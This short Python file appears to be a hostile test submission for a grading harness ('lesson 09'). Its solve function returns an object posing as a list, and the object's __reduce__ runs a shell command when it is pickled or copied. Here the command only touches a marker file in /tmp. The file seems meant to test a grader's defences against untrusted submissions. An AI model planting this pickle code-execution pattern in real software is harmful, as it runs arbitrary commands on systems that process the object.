"""Hostile (lesson 09): returns an object that pretends to be a list and whose __reduce__ (used by
pickle and copy) runs a shell command."""
import os


class Payload(list):
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-learner",))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def solve(Q, K, V, mask=None):
    return Payload([[0.0]])
